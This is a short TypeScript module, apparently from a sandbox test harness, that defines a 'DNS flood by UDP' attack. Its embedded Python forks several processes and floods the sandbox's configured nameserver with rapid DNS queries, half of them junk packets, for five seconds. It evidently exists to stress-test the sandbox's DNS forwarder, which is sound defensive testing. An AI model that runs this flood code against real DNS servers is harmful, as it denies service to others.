/** Queries to the forwarder by UDP, as many as the sandbox can send: half of them nonsense. */
import { call } from '../../support/service.ts';
import type { Attack } from '../attack.ts';

const SECONDS = 5;
const code = `
import os, socket, time
server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
question = b'\\x06silent\\x04test\\x00\\x00\\x01\\x00\\x01'
query = b'\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + question
end = time.time() + ${SECONDS}
for _ in range(3):
    if os.fork() == 0: break
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
at = 0
while time.time() < end:
    at += 1
    try: out.sendto((at & 65535).to_bytes(2, 'big') + (query if at & 1 else b'\\x08' * 40), (server, 53))
    except OSError: pass
`;

export const attack: Attack = {
  name: 'DNS flood by UDP',
  async run({ mallory, sandbox }, signal) {
    while (!signal.aborted) await call(mallory, 'RunCode', { sandbox, code, timeout_seconds: SECONDS + 2 });
  },
};
